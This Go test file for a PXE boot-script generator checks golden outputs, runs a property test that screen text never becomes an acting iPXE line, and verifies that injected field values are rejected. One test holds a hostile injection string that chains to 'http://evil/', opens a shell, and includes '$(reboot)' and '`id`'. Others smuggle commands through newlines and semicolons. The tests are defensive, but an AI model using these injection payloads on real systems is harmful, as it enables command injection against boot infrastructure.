package pxe_test

import (
	"flag"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	"github.com/slipwayhq/slipway/pxe"
	"github.com/slipwayhq/slipway/pxe/artifact"
)

var update = flag.Bool("update", false, "rewrite the golden files")

func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		require.NoError(t, os.MkdirAll("testdata", 0o755))
		require.NoError(t, os.WriteFile(path, []byte(got), 0o644))
	}
	want, err := os.ReadFile(path)
	require.NoError(t, err)
	require.Equal(t, string(want), got, name)
}

func install(s pxe.Screen) pxe.Install {
	return pxe.Install{
		Screen: s, Base: "http://10.240.0.5:8080", IP: "10.240.0.10", Token: "slr_example",
		Kernel: artifact.Artifact{Name: "vmlinuz", SHA256: strings.Repeat("a1", 32)}, Initrd: artifact.Artifact{Name: "initrd.img", SHA256: strings.Repeat("b2", 32)},
		KernelArgs: []string{"console=tty0", "console=ttyS0,115200"},
	}
}

var screen = pxe.Screen{Who: "node web-01 (node_7), deployment 3, attempt 1", Lines: []string{"a line", "another"}}

func TestScripts(t *testing.T) {
	text, err := install(screen).Script()
	require.NoError(t, err)
	golden(t, "install.ipxe", text)
	text, err = pxe.WaitScript(screen, "http://10.240.0.5:8080/boot/d/locator")
	require.NoError(t, err)
	golden(t, "wait.ipxe", text)
	text, err = pxe.DiskScript(screen)
	require.NoError(t, err)
	golden(t, "disk.ipxe", text)
	text, err = pxe.StopScript(screen)
	require.NoError(t, err)
	golden(t, "stop.ipxe", text)
}

func TestAHostileNameStaysText(t *testing.T) {
	s := pxe.Screen{Who: "a\"b'c ${net0/mac} $(reboot) `id` \n#x\r\nchain http://evil/ || shell ; exit && boot \x00\x1b[2J é", Lines: []string{"", "\n", "# comment"}}
	text, err := pxe.StopScript(s)
	require.NoError(t, err)
	golden(t, "hostile.ipxe", text)
}

// harmless are the lines of a script that come from a template.
var harmless = regexp.MustCompile(`^(#!ipxe|#.*|echo( Slipway: .*)?|:[a-z_]+|sleep \d+|goto [a-z]+|)$`)

func TestWhateverIsSaidOnlySpeaks(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		s := pxe.Screen{Who: rapid.String().Draw(t, "who"), Lines: rapid.SliceOf(rapid.String()).Draw(t, "lines")}
		text, err := pxe.StopScript(s)
		if err != nil {
			t.Fatal(err)
		}
		for line := range strings.SplitSeq(text, "\n") {
			if !harmless.MatchString(line) {
				t.Fatalf("a line that acts: %q", line)
			}
			said, ok := strings.CutPrefix(line, "echo Slipway: ")
			if !ok {
				continue
			}
			for _, r := range said {
				if r < ' ' || r > '~' {
					t.Fatalf("not printable: %q", line)
				}
			}
			for word := range strings.FieldsSeq(said) {
				if word == "||" || word == "&&" || word == ";" || word[0] == '#' || strings.Contains(word, "${") {
					t.Fatalf("iPXE acts on %q", line)
				}
			}
			if len(said) > 300 {
				t.Fatal("too long")
			}
		}
	})
}

func TestWordsOfCommandsAreChecked(t *testing.T) {
	for name, change := range map[string]func(*pxe.Install){
		"space in the base":       func(i *pxe.Install) { i.Base = "http://a b" },
		"expansion in the base":   func(i *pxe.Install) { i.Base = "http://${x}" },
		"no address":              func(i *pxe.Install) { i.IP = "" },
		"newline in the address":  func(i *pxe.Install) { i.IP = "10.0.0.1\nboot" },
		"quote in an argument":    func(i *pxe.Install) { i.KernelArgs = []string{`x="y"`} },
		"semicolon in the kernel": func(i *pxe.Install) { i.Kernel.Name = "a;b" },
		"no initrd":               func(i *pxe.Install) { i.Initrd.Name = "" },
		"comment as token":        func(i *pxe.Install) { i.Token = "#x" },
	} {
		i := install(screen)
		change(&i)
		_, err := i.Script()
		require.Error(t, err, name)
	}
	_, err := pxe.WaitScript(screen, "http://x y")
	require.Error(t, err)
}

func TestCheckStorage(t *testing.T) {
	require.Empty(t, pxe.CheckStorage([]byte(`{"boot_disk":{"serial":"S1"},"data_drives":[{"type":"nvme","count":8}]}`)))
	for _, bad := range []string{`{"boot_disk":"nvme0n1"}`, `{"boot_disk":{}}`, `{"boot_disk":{"serial":"x"},"data_drives":["nvme0n1"]}`, `{"boot_disk":{"type":"floppy"}}`, `[]`, `7`} {
		got := pxe.CheckStorage([]byte(bad))
		require.NotEmpty(t, got, bad)
		for _, f := range got {
			require.Regexp(t, "^storage_config", f.Field)
		}
	}
}
